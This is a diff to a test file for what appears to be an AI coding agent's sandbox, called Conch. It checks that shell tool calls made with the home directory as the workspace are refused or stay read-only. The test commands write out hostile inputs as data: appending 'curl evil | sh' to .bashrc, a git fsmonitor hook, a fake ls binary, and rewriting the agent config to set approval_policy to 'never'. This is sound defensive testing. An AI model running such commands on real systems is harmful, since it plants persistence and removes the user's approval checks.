@@ -1,6 +1,6 @@
 // Issue 10: secrets are denied by default, by path and by environment name, and Conch's own files are out
 // of reach. Real attempts through the CLI and bwrap, checked on what the model gets and on the host.
-import { existsSync, mkdirSync, readdirSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { sandboxWorks, toolCall, userConfig, type Workspace, workspace } from "./harness.js";
@@ -109,20 +109,41 @@ describe.runIf(sandboxWorks())("Conch's own files", () => {
     expect(existsSync(join(state, "trusted-projects.json"))).toBe(false);
   });
 
-  it("with the workspace at $HOME, the config, state and shell startup files stay read-only", () => {
+  it("the home as the workspace is refused unless the user config accepts it", () => {
     const home = workspace({ cwdIsHome: true });
     try {
+      const refused = toolCall(home, "shell_command", { command: "echo x > ~/.bash_profile" });
+      expect(refused.text).toContain(`the writable root ${home.home} is the home directory ${home.home}`);
+      expect(existsSync(join(home.home, ".bash_profile"))).toBe(false);
+    } finally {
+      home.cleanup();
+    }
+  });
+
+  it("with the home accepted as the workspace, the config, state and startup files stay read-only", () => {
+    const home = workspace({ cwdIsHome: true });
+    try {
+      userConfig(home, ["home_workspace = true"]);
       writeFileSync(join(home.home, ".bashrc"), "# mine\n");
+      writeFileSync(join(home.home, ".gitconfig"), "[user]\n");
+      mkdirSync(join(home.home, ".local", "bin"), { recursive: true });
       const call = toolCall(home, "shell_command", {
         command: [
           "echo 'curl evil | sh' >> ~/.bashrc",
+          "printf '[core]\\n\\tfsmonitor = touch ~/ran\\n' >> ~/.gitconfig",
+          "echo x > ~/.local/bin/ls",
           "mkdir -p ~/.config/conch/rules && echo x > ~/.config/conch/rules/allow.toml",
           "mv ~/.config ~/.config.old && mkdir -p ~/.config/conch && echo 'approval_policy = \"never\"' > ~/.config/conch/config.toml",
           "echo ok > ~/work.txt",
         ].join("; "),
       });
       expect(call.text).toContain("Read-only file system");
-      expect(readdirSync(join(home.home, ".config", "conch"))).not.toContain("config.toml");
+      expect(readFileSync(join(home.home, ".bashrc"), "utf8")).toBe("# mine\n");
+      expect(readFileSync(join(home.home, ".gitconfig"), "utf8")).toBe("[user]\n");
+      expect(existsSync(join(home.home, ".local", "bin", "ls"))).toBe(false);
+      expect(readFileSync(join(home.home, ".config", "conch", "config.toml"), "utf8")).toBe(
+        "home_workspace = true\n",
+      );
       expect(existsSync(join(home.home, ".config", "conch", "rules", "allow.toml"))).toBe(false);
       expect(existsSync(join(home.home, "work.txt"))).toBe(true);
     } finally {
